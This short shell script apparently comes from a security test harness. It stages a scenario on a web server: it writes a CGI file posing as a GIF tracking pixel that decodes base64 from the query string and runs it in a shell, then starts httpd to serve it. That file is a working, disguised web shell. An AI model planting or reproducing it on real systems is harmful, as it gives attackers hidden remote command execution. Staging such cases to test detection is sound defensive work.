#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/www/cgi-bin; printf '#!/bin/sh\nprintf "Content-Type: image/gif\\r\\n\\r\\nGIF89a"\necho "$QUERY_STRING" | base64 -d | sh 2>&1\n' >/srv/www/cgi-bin/px.sh; chmod 755 /srv/www/cgi-bin/px.sh
httpd -p 8080 -h /srv/www
wait_for /tmp/reached
took_place
